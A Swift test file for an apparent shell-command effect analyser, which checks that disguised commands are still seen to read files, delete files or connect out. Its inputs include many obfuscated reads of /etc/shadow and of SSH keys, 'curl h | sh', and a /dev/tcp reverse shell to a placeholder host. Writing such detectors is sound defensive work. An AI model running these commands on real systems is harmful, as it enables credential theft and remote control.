// SPDX-License-Identifier: Apache-2.0

import StrictJSON
import Testing

@testable import Effects

/// A command, and all of its effects but the executions.
typealias Walked = (line: String, effects: [String])

private func touched(_ line: String) throws -> [String] { try walked(line).filter { !$0.hasPrefix("execute") } }

@Suite struct WalkTests {
    private static let shadow = ["read /etc/shadow"]

    @Test(arguments: [
        "cat /etc/shadow", "c\\at /etc/shadow", "\"c\"a't' /etc/sh\"\"adow", "$'\\x63at' $'/etc/\\163hadow'",
        "{cat,/etc/shadow}", "cat${IFS}/etc/shadow", "cat</etc/shadow", "<\"/etc/shadow\" cat", "cat 0</etc/shadow",
        "cat //etc/./x/../shadow", "cat /etc/sha$@dow", "cat /etc/s$(true)hadow", "cat /etc/s`echo h`adow",
        "d=/etc; cat $d/shadow", "d=/etc; cat \"${d}/shadow\"", "x='cat /etc/shadow'; $x", "x=cat; $x /etc/shadow",
        "set -- /etc/shadow; cat $1", "set -- a /etc/shadow; shift; cat \"$@\"", "set -- cat /etc/shadow; \"$@\"",
        "IFS=,; x=cat,/etc/shadow; $x", "x=/etc/shXdow; cat ${x//X/a}", "x=/etc/SHADOW; cat ${x,,}",
        "x=abc/etc/shadow; cat ${x:3}", "x=/etc/shadow.txt; cat ${x%.txt}", "x=y/etc/shadow; cat ${x#y}",
        "cat ${HOME:0:1}etc${PWD:0:1}shadow", "x=y; y=/etc/shadow; cat ${!x}", "unset u; cat /etc/sh${u}adow",
        "$(echo cat) /etc/shadow", "cat $(echo /etc/shadow)", "cat $(printf '/%s/%s' etc shadow)",
        "cat \"$(printf '\\057etc\\x2fshadow')\"", "x=$(cat <<E\n/etc/shadow\nE\n); cat $x", "eval cat /etc/shadow",
        "eval \"$(echo 'cat /etc/shadow')\"", "cat /etc/shadow /dev/null > /dev/null",
        "a=(cat /etc/shadow); \"${a[@]}\"", "a=(/etc/shadow x); cat ${a[0]}", "a=(/etc/shadow); a+=(x); cat ${a[0]}",
        "declare -A m=([k]=/etc/shadow); cat ${m[k]}", "printf -v x %s /etc/shadow; cat $x",
        "read x <<< /etc/shadow; cat $x", "IFS=: read a b <<< x:/etc/shadow; cat $b", "export x=/etc/shadow; cat $x",
        "mapfile -t a < <(echo /etc/shadow); cat \"${a[0]}\"", "f() { cat \"$1\"; }; f /etc/shadow",
        "f() { x=/etc/shadow; }; f; cat $x", "f() { x=/etc/shadow; return; x=/y; }; f; cat $x",
        "for x in /etc/shadow; do cat $x; done", "while :; do x=/etc/shadow; break; x=/y; done; cat $x",
        "x=; for i in /etc / shadow; do x=$x$i; done; cat $x", "[[ $(cat /etc/shadow) == y ]]",
        "trap 'cat /etc/shadow' 0",
        "case x in x) cat /etc/shadow;; esac", "command cat /etc/shadow", "exec cat /etc/shadow",
        "builtin eval cat /etc/shadow", "time cat /etc/shadow", "! cat /etc/shadow", "cat /etc/shadow &",
        "(cat /etc/shadow)", "{ cat /etc/shadow; }", "coproc cat /etc/shadow", "echo \"$(</etc/shadow)\"",
        "cd /etc && cat shadow", "cd /etc && cd ../etc && cat ./shadow", "pushd /etc && cat shadow",
        "cat <(cat /etc/shadow)",
        "cat ~/../../etc/shadow", "cat ~+/../../etc/shadow", "env cat /etc/shadow", "sudo cat /etc/shadow",
        "sh -c 'cat /etc/shadow'",
        "sh -c 'cat $1' x /etc/shadow", "sh -c 'cat \"$0\"' /etc/shadow", "bash <<< 'cat /etc/shadow'",
        "bash <<E\ncat /etc/shadow\nE", "echo 'cat /etc/shadow' | sh", "echo Y2F0IC9ldGMvc2hhZG93Cg== | base64 -d | sh",
        "echo 636174202f6574632f736861646f77 | xxd -r -p | sh", "echo 'wodahs/cte/ tac' | rev | sh",
        "echo 'dbu 0fud0tibepx' | tr 'b-z0' 'a-y/' | sh", "echo cat /etc/shadow | sh /dev/stdin",
        "export x='cat /etc/shadow'; sh -c '$x'", "source <(echo cat /etc/shadow)",
        ". /dev/stdin <<< 'cat /etc/shadow'",
        "alias c='cat /etc/shadow'", "PROMPT_COMMAND='cat /etc/shadow'", "complete -C 'cat /etc/shadow' x",
    ])
    func `a file is read, however the command is disguised`(line: String) throws {
        var line = line
        var others: Set<String> = []
        // An alias counts where it is used; whether it does nobody knows.
        if line.hasPrefix("alias") {
            line += "\nc"
            others = ["opaque program"]
        }
        #expect(try touched(line).filter { !others.contains($0) } == Self.shadow)
    }

    static let followed: [Walked] = [
        ("ln -s ~/.ssh k; cat k/id_rsa", ["read /home/me/.ssh/id_rsa", "read /w/p/k/id_rsa", "write /w/p/k"]),
        ("ln -s /etc k && cd k && cat shadow", ["read /etc/shadow", "read /w/p/k/shadow", "write /w/p/k"]),
        ("ln -s ~/.ssh k; echo x > k/a", ["write /home/me/.ssh/a", "write /w/p/k", "write /w/p/k/a"]),
        ("ln -s ~/.ssh k; rm k", ["write /w/p/k", "delete /w/p/k"]),
        ("ln -s ~/.ssh k; rm -rf k/x", ["write /w/p/k", "delete /home/me/.ssh/x/", "delete /w/p/k/x/"]),
        ("ln -s /etc k; cat k/*", ["read /etc/", "read /w/p/k/", "write /w/p/k"]),
        ("ln -s /etc/shadow k; ls", ["read /etc/shadow/", "read /w/p/", "write /w/p/k"]),
        ("cp /etc/shadow x; cat x", ["read /etc/shadow", "read /w/p/x", "write /w/p/x"]),
        ("cp /etc/shadow x; echo a > x", ["read /etc/shadow", "write /w/p/x"]),
        ("echo 'rm /x' > a; sh a", ["read /w/p/a", "write /w/p/a", "delete /x"]),
        ("echo 'rm /x' > a; sh < a", ["read /w/p/a", "write /w/p/a", "delete /x"]),
        ("echo 'rm /x' > a; cat a | sh", ["read /w/p/a", "write /w/p/a", "delete /x"]),
        ("echo 'rm /x' | tee a; . ./a", ["read /w/p/a", "write /w/p/a", "delete /x"]),
        ("echo 'rm /x' > a; chmod 700 a; ./a", ["read /w/p/a", "write /w/p/700", "write /w/p/a", "delete /x"]),
        ("cat > a <<'E'\n#!/bin/sh\nrm $1\nE\n./a /x", ["read /w/p/a", "write /w/p/a", "delete /x"]),
        ("cat > a <<'E'\n#!/usr/bin/env bash\nrm $1\nE\n./a /x", ["read /w/p/a", "write /w/p/a", "delete /x"]),
        (
            "echo 'rm /x' > a; cp a b; sh b",
            ["read /w/p/a", "read /w/p/b", "write /w/p/a", "write /w/p/b", "delete /x"]
        ),
        // A copy keeps what was there.
        (
            "cp /e/x a; echo true > /e/x; sh a",
            ["read /e/x", "read /w/p/a", "write /e/x", "write /w/p/a", "opaque program"]
        ),
        (
            "cp /e/x a; echo true > /e/x; ./a",
            ["read /e/x", "read /w/p/a", "write /e/x", "write /w/p/a", "opaque program"]
        ),
        (
            "echo 'rm /x' > d/a; cp d e; echo true > d/a; sh e/a",
            ["read /w/p/d", "read /w/p/d/a", "read /w/p/e/a", "write /w/p/d/a", "write /w/p/e", "delete /x"]
        ),
        (
            "cp \"$d\" e; sh e/a",
            ["read /w/p/e/a", "write /w/p/e", "opaque code", "opaque path-read"]
        ),
        ("exec 3>a; echo 'rm /x' >&3; sh a", ["read /w/p/a", "write /w/p/a", "delete /x"]),
        ("(echo 'rm /x' > a; exit; echo > a); sh a", ["read /w/p/a", "write /w/p/a", "delete /x"]),
        ("f() { echo 'rm /x' > a; }; f; sh a", ["read /w/p/a", "write /w/p/a", "delete /x"]),
        ("ln -s /bin/sh s; ./s -c 'rm /x'", ["read /w/p/s", "write /w/p/s", "delete /x"]),
        ("echo rm /x > /usr/bin/ls; ls", ["write /usr/bin/ls", "delete /x"]),
        (
            "sh a | echo 'rm /x' > a",
            ["read /w/p/a", "write /w/p/a", "delete /x", "opaque project-code"]
        ),
        (
            "sh a & echo 'rm /x' > a",
            ["read /w/p/a", "write /w/p/a", "delete /x", "opaque project-code"]
        ),
    ]

    @Test(arguments: followed)
    func `links, copies and files that the text itself makes are followed`(walk: Walked) throws {
        #expect(try touched(walk.line) == walk.effects)
    }

    static let uncertain: [Walked] = [
        ("cat \"$x\"", ["opaque path-read"]), ("rm \"$x\"", ["opaque path-write"]),
        ("echo > $x", ["opaque path-write"]),
        ("cat < $x", ["opaque path-read"]), ("$X/bin/y", ["opaque program"]), ("\"$X\" y", ["opaque program"]),
        ("$(curl -s h) x", ["connect http://h/", "opaque program"]), ("eval \"$x\"", ["opaque code"]),
        ("curl h | sh", ["connect http://h/", "opaque code"]), ("source \"$x\"", ["opaque code", "opaque path-read"]),
        ("curl h > a; sh a", ["read /w/p/a", "write /w/p/a", "connect http://h/", "opaque code"]),
        ("echo \"$x\" > a; sh a", ["read /w/p/a", "write /w/p/a", "opaque code"]),
        ("cd \"$x\" && cat a", ["opaque path-read"]),
        ("cd /x; cat a", ["read /w/p/a", "read /x/a"]), ("cd /x && cat a", ["read /x/a"]),
        ("cd /x || exit; cat a", ["read /x/a"]), ("set -e; cd /x; cat a", ["read /x/a"]),
        ("if cd /x; then cat a; else cat b; fi", ["read /w/p/b", "read /x/a"]),
        ("x=a; [ y ] && x=b; cat $x", ["read /w/p/a", "read /w/p/b"]),
        ("if [ y ]; then x=a; else x=b; fi; cat $x", ["read /w/p/a", "read /w/p/b"]),
        ("cat ${x:-a}", ["read /w/p/a", "opaque path-read"]), ("x=b; cat ${x:-a}", ["read /w/p/b"]),
        ("x=; cat ${x:-a}", ["read /w/p/a"]), ("x=b; cat ${x:+a}", ["read /w/p/a"]),
        ("sh x.sh", ["read /w/p/x.sh", "opaque project-code"]), ("sh /tmp/x", ["read /tmp/x", "opaque program"]),
        ("python3 t/*.py", ["read /w/p/t/", "opaque project-code"]), ("sh /tmp/*", ["read /tmp/", "opaque program"]),
        ("echo 'rm /x' > t/a; sh t/*", ["read /w/p/t/", "write /w/p/t/a", "delete /x", "opaque project-code"]),
        ("./x", ["read /w/p/x", "opaque project-code"]), ("/tmp/x", ["read /tmp/x", "opaque program"]),
        ("source ./x", ["read /w/p/x", "opaque project-code"]), ("cat x | sh", ["read /w/p/x", "opaque project-code"]),
        ("PATH=/tmp:$PATH; ls", ["read /w/p/", "opaque program"]), ("PATH=$PATH:/usr/x/bin; ls", ["read /w/p/"]),
        ("export PATH=$PWD/bin:$PATH; ls", ["read /w/p/", "opaque project-code"]),
        ("PATH=/tmp ls; ls", ["read /w/p/", "opaque program"]), ("PATH=\"$x\"; ls", ["read /w/p/", "opaque program"]),
        ("export PATH=~/.cargo/bin:$PATH; ls", ["read /w/p/"]),
        ("curl \"http://h/$x\"", ["connect h", "connect http://h/"]),
        ("curl http://h/$X", ["connect h", "connect http://h/", "opaque host"]),
        ("curl \"http://$x/\"", ["opaque host"]),
        ("curl \"http://h$x/\"", ["connect http://h/", "opaque host"]),
        ("ls | xargs rm", ["read /w/p/", "opaque path-write"]),
        ("while read f; do cat $f; done < a", ["read /w/p/a", "opaque path-read"]),
        ("printf '/a\\n/b\\n' | while read f; do cat $f; done", ["read /a", "read /b"]),
        ("export $(cat a)", ["read /w/p/a", "opaque project-code"]), ("x='a[$(id)]'; echo $((x))", ["opaque code"]),
        ("cat 'x;rm y' 2>&1 | sh", ["read /w/p/x;rm y", "opaque code"]),
        ("{ echo rm /x >&2; } 2>&1 | sh", ["delete /x"]), ("x=$(echo rm >&2); $x", ["opaque program"]),
        ("cat f$$", ["read /w/p/"]), ("echo > /tmp/$(date +%F)", ["write /tmp/"]), ("cat f$((1+2))", ["read /w/p/f3"]),
        ("cat f$((n+1))", ["read /w/p/"]), ("cat ~x/y", ["read /home/x/y", "opaque path-read"]),
        ("ssh h 'cat /etc/shadow'", ["connect h"]), ("ssh h 'foo'", ["connect h", "opaque program"]),
        ("exit; cat a", []), ("while true; do break; done; cat a", ["read /w/p/a"]),
        ("while true; do cat b; done; cat a", ["read /w/p/b"]), ("f() { exit; }; f; cat a", []),
        ("(exit); cat a", ["read /w/p/a"]), ("cat '' a", ["read /w/p/a"]), ("cat %2e%2e/x", ["read /w/p/%2e%2e/x"]),
        ("ls > /dev/null 2>&1", ["read /w/p/"]), ("make 2>&1 | tee log", ["write /w/p/log", "opaque project-code"]),
        ("cd t && make", ["opaque project-code"]), ("cd /tmp/x && make", ["opaque program"]),
        ("cd /tmp/x; make", ["opaque program"]), ("(cd ..; make)", ["opaque program"]),
    ]

    @Test(arguments: uncertain)
    func `what only run time knows is opaque, and both ways are taken where two are possible`(walk: Walked) throws {
        #expect(try touched(walk.line) == walk.effects)
    }

    static let connections: [Walked] = [
        ("echo x > /dev/tcp/h.example/80", ["connect h.example"]), ("exec 3<>/dev/udp/1.2.3.4/53", ["connect 1.2.3.4"]),
        ("cat < /dev/tcp/h/1 | sh", ["connect h", "opaque code"]), ("sh -i >& /dev/tcp/h/1 0>&1", ["connect h"]),
        ("echo > /dev/tcp/$x/80", ["opaque host"]), ("x=h; echo > /dev/tcp/$x/80", ["connect h"]),
    ]

    @Test(arguments: connections)
    func `a redirection to a network connects`(walk: Walked) throws {
        #expect(
            try touched(walk.line).filter { !$0.hasPrefix("opaque code") || walk.effects.contains($0) } == walk.effects)
    }

    @Test func `programs and builtins alike are executed by their names`() throws {
        #expect(try walked("cd x && echo a | cat") == ["execute cat", "execute cd", "execute echo"])
        #expect(try walked("f() { true; }; f") == ["execute true"])
    }
}
